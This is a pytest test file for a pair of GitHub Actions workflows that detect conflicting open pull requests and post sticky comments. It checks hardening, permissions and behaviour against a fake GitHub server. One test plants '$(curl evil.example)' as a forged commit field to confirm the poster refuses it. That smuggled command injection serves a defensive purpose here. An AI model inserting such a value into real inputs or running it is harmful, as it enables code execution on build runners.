"""``workflows/overlap.yml`` and ``overlap-post.yml``: valid, quiet under zizmor, hardened, and
their ``run:`` blocks compute the matrix of PRs listed by the fake GitHub server and fetched from
a real remote with a read-only token, hand it over through the artifact folder, and post (or
degrade, or leave to a newer run) each later PR's sticky comment."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.fakegithub import TOKEN, FakeGitHub
from tests.fakegithub import fake_github as fake_github  # the fixture
from tests.helpers import Remote
from tests.workflow_helpers import (
    FORK_POSTER_SUPPRESSION,
    VALIDATORS,
    assert_hardened,
    assert_validator_finds_nothing,
    run_block,
    runner_env,
    zizmor_suppressions,
)

ROOT = Path(__file__).resolve().parent.parent
CHECK = ROOT / "workflows" / "overlap.yml"
POST = ROOT / "workflows" / "overlap-post.yml"
COMPUTE_STEP = "Compute the overlap matrix"
POST_STEP = "Post the sticky comments"
MARKER = "<!-- govern:overlap -->"
TOLD_15 = ("⚠️ #15 conflicts with **1** earlier open PR(s) into `origin/main`; it should rebase "
           "once they land:")


def load(path: Path) -> dict[Any, Any]:
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def step(path: Path, name: str) -> dict[str, Any]:
    job = next(iter(load(path)["jobs"].values()))
    return next(s for s in job["steps"] if s.get("name") == name)


def sections(markdown: str) -> list[str]:
    return [line for line in markdown.splitlines() if line.startswith("####")]


@pytest.mark.parametrize("workflow", [CHECK, POST], ids=["compute", "post"])
@pytest.mark.parametrize(("tool", "options"), VALIDATORS)
def test_validators_find_nothing(workflow: Path, tool: str, options: tuple[str, ...]) -> None:
    assert_validator_finds_nothing(tool, options, workflow)


def test_the_one_suppression_says_why() -> None:
    assert zizmor_suppressions(CHECK, POST) == [FORK_POSTER_SUPPRESSION]


def test_triggers() -> None:
    assert load(CHECK)[True] == {"pull_request": {"types": ["opened", "synchronize", "reopened",
                                                            "closed"]},
                                 "push": {"branches": ["main"]}}
    assert load(POST)[True] == {"workflow_run": {"workflows": ["PR overlap"],
                                                 "types": ["completed"]}}
    assert load(CHECK)["name"] == "PR overlap"  # the name the poster waits for
    assert load(POST)["jobs"]["post"]["if"] == (
        "github.event.workflow_run.conclusion == 'success' && "
        "(github.event.workflow_run.event == 'pull_request' || "
        "github.event.workflow_run.event == 'push')")


def test_hardening() -> None:
    check, post = load(CHECK), load(POST)
    assert_hardened(check)
    assert_hardened(post)
    # the compute job can read, never write: what a fork PR's token allows anyway
    assert check["jobs"]["compute"]["permissions"] == {"contents": "read",
                                                       "pull-requests": "read"}
    assert post["jobs"]["post"]["permissions"] == {"actions": "read", "contents": "read",
                                                   "pull-requests": "write"}
    assert check["jobs"]["compute"]["steps"][0]["with"] == {"fetch-depth": 0,
                                                            "persist-credentials": False}
    # the poster checks out the default branch only: no ref or repository of the PR
    assert post["jobs"]["post"]["steps"][0]["with"] == {"persist-credentials": False}
    # branch names and the token reach the shell through env:, never pasted into it
    assert step(CHECK, COMPUTE_STEP)["env"] == {
        "GITHUB_TOKEN": "${{ github.token }}",
        "BASE": "${{ github.event.pull_request.base.ref || github.ref_name }}"}
    assert step(POST, POST_STEP)["env"] == {"GITHUB_TOKEN": "${{ github.token }}",
                                            "OVERLAP": "${{ runner.temp }}/overlap"}


def test_the_two_caches_do_not_restore_each_other() -> None:
    """actions/cache restores by key prefix: the pair cache and the told record must not."""
    caches = [next(s["with"] for s in next(iter(load(path)["jobs"].values()))["steps"]
                   if s.get("uses", "").startswith("actions/cache@")) for path in (CHECK, POST)]
    assert [(c["key"], c["restore-keys"]) for c in caches] == [
        ("govern-overlap-pairs-${{ github.run_id }}", "govern-overlap-pairs-"),
        ("govern-overlap-told-${{ github.run_id }}", "govern-overlap-told-")]


# -- the run: blocks, as a runner runs them ------------------------------------------------------

@pytest.fixture
def remote(tmp_path: Path, fake_github: FakeGitHub) -> Remote:
    """PRs 12 and 15 rewrite the same line (the later, #15, must rebase); 13 adds a file."""
    remote = Remote(tmp_path, fake_github)
    remote.open_pr(12, {"f.txt": "l1\nfrom 12\nl3\n"})
    remote.open_pr(13, {"g.txt": "g\n"})
    remote.open_pr(15, {"f.txt": "l1\nfrom 15\nl3\n"})
    return remote


def clone(remote: Remote, into: Path) -> Path:
    subprocess.run(["git", "clone", "-q", str(remote.bare), str(into)], check=True)
    return into


def compute(remote: Remote, tmp_path: Path) -> tuple[subprocess.CompletedProcess[str], Path,
                                                     Path]:
    """The compute step in the runner's checkout, with the read-only token of a fork PR:
    ``(process, artifact folder, job summary)``."""
    work = clone(remote, tmp_path / "work")
    summary = tmp_path / "compute-summary.md"
    remote.fake.read_only = True
    env = runner_env({"GITHUB_TOKEN": TOKEN, "GITHUB_API_URL": remote.fake.base_url,
                      "GITHUB_REPOSITORY": remote.fake.full_name,
                      "GITHUB_SERVER_URL": "https://github.example",
                      "GITHUB_STEP_SUMMARY": str(summary), "GITHUB_ACTIONS": "true",
                      "BASE": "main"})
    proc = run_block(step(CHECK, COMPUTE_STEP)["run"], work, env)
    remote.fake.read_only = False
    return proc, work / "overlap", summary


def post(remote: Remote, tmp_path: Path, artifact: Path, head: str
         ) -> tuple[subprocess.CompletedProcess[str], Path]:
    """The poster: the default branch checked out, the artifact downloaded to $OVERLAP, and the
    event of the triggering run (``head``: what it was triggered for)."""
    base = tmp_path / "base"
    if not base.exists():  # a second post reuses the checkout, as the cache restores its record
        clone(remote, base)
    downloaded = tmp_path / "runner-temp" / "overlap"
    shutil.rmtree(downloaded, ignore_errors=True)
    shutil.copytree(artifact, downloaded)
    event = tmp_path / "workflow_run.json"
    event.write_text(json.dumps({
        "workflow_run": {"id": 99, "event": "pull_request", "conclusion": "success",
                         "head_sha": head, "pull_requests": []},  # as for a fork PR
        "repository": {"full_name": remote.fake.full_name}}), encoding="utf-8")
    summary = tmp_path / "post-summary.md"
    summary.write_text("", encoding="utf-8")
    env = runner_env({"GITHUB_ACTIONS": "true", "GITHUB_EVENT_PATH": str(event),
                      "GITHUB_STEP_SUMMARY": str(summary), "GITHUB_TOKEN": TOKEN,
                      "GITHUB_API_URL": remote.fake.base_url,
                      "GITHUB_REPOSITORY": remote.fake.full_name, "OVERLAP": str(downloaded)})
    return run_block(step(POST, POST_STEP)["run"], base, env), summary


def test_a_read_only_run_computes_then_the_poster_posts(remote: Remote, tmp_path: Path) -> None:
    computed, artifact, check_summary = compute(remote, tmp_path)
    assert computed.returncode == 0, computed.stderr
    # the token's basic-auth form is masked before git may print it
    assert computed.stdout.splitlines()[0].startswith("::add-mask::")
    assert sorted(p.name for p in artifact.iterdir()) == ["overlap.json"]
    assert [pr["id"] for pr in json.loads((artifact / "overlap.json").read_text())["prs"]] \
        == [12, 13, 15]
    assert sections(check_summary.read_text()) == ["#### #12", "#### #13", "#### #15"]
    assert remote.fake.comments == {}  # the compute run posts nothing

    posted, summary = post(remote, tmp_path, artifact, remote.fake.pulls[15]["head_sha"])
    assert posted.returncode == 0, posted.stderr
    assert list(remote.fake.comments) == [15]
    [comment] = remote.fake.comments[15]
    assert comment["body"].splitlines()[:4] == [MARKER, "### 🔀 PR overlap", "", TOLD_15]
    # the poster's job summary shows the whole matrix, as the compute run's did
    assert summary.read_text() == check_summary.read_text()


def test_the_poster_corrects_a_comment_through_its_told_record(remote: Remote,
                                                               tmp_path: Path) -> None:
    _, artifact, _ = compute(remote, tmp_path)
    assert post(remote, tmp_path, artifact, "0" * 40)[0].returncode == 0
    remote.fake.pulls[12]["state"] = "closed"  # #12 closed: #15 has nothing to rebase on
    shutil.rmtree(tmp_path / "work")
    _, artifact, _ = compute(remote, tmp_path)
    corrected, _ = post(remote, tmp_path, artifact, "0" * 40)
    assert corrected.returncode == 0, corrected.stderr
    assert remote.fake.comments[15][0]["body"].splitlines()[3] == (
        "✅ #15 merges cleanly with the 1 other open PR(s) into `origin/main`.")


def test_a_pr_whose_head_moved_is_not_overwritten(remote: Remote, tmp_path: Path) -> None:
    _, artifact, _ = compute(remote, tmp_path)
    old = remote.fake.pulls[15]["head_sha"]
    remote.push(15, {"h.txt": "newer\n"})  # #15 moved on; the run for its new head posts
    newer = remote.fake.add_comment(15, MARKER + "\nthe newer run's result\n",
                                    login="github-actions[bot]")
    posted, _ = post(remote, tmp_path, artifact, old)
    assert posted.returncode == 0, posted.stderr
    current = remote.fake.pulls[15]["head_sha"]
    assert posted.stderr.splitlines() == [
        f"govern: not posted: PR #15 is at {current[:12]}, this run computed {old[:12]} (the "
        "run for the newer head posts)"]
    assert remote.fake.comments[15] == [newer]


def test_a_read_only_token_leaves_the_comment_in_the_summary(remote: Remote,
                                                             tmp_path: Path) -> None:
    _, artifact, _ = compute(remote, tmp_path)
    remote.fake.read_only = True
    posted, summary = post(remote, tmp_path, artifact, "0" * 40)
    assert posted.returncode == 0, posted.stderr
    assert remote.fake.comments == {}
    assert ("::warning::the overlap comment was not posted: GitHub refused permission while "
            "commenting on #15 of acme/widgets: 403 'Resource not accessible by integration'; "
            "it is in this run's step summary") in posted.stderr.splitlines()
    # the comment for #15, then the matrix the step appends: no annotation inside either
    text = summary.read_text()
    assert text.startswith(f"{MARKER}\n### 🔀 PR overlap\n\n{TOLD_15}\n")
    assert sections(text) == ["#### #12", "#### #13", "#### #15"]
    assert "::" not in text


def test_a_matrix_not_computed_is_uploaded_and_nothing_posted(remote: Remote,
                                                              tmp_path: Path) -> None:
    remote.fake.add_pull(14, "e" * 40)  # listed by GitHub, but the remote has no refs/pull/14
    computed, artifact, _ = compute(remote, tmp_path)
    assert computed.returncode == 0, computed.stderr
    assert ("Error: cannot fetch the head of PR #14 (refs/pull/14/head) from remote 'origin': "
            "fatal: couldn't find remote ref refs/pull/14/head") in computed.stderr.splitlines()
    assert sorted(p.name for p in artifact.iterdir()) == ["not-judged.json"]
    before = len(remote.fake.requests)
    posted, _ = post(remote, tmp_path, artifact, "0" * 40)
    assert posted.returncode == 0, posted.stderr
    assert posted.stdout.splitlines() == [
        "govern: the triggering run could not compute the matrix: nothing to post"]
    assert remote.fake.requests[before:] == []


def test_a_forged_artifact_is_refused_before_any_request(remote: Remote,
                                                         tmp_path: Path) -> None:
    forged = tmp_path / "forged"
    forged.mkdir()
    (forged / "overlap.json").write_text(json.dumps({
        "schema_version": 1, "base": "origin/main", "pairs": [],
        "prs": [{"id": 15, "ref": "x", "head": "$(curl evil.example)", "behind": 0,
                 "behind_touching": [], "files": 1}]}))
    posted, _ = post(remote, tmp_path, forged, "0" * 40)
    assert posted.returncode == 2
    assert posted.stderr.splitlines()[0].endswith(
        "overlap.json is not `govern overlap --json` output: $.prs[0].head is not a commit sha")
    assert remote.fake.requests == []
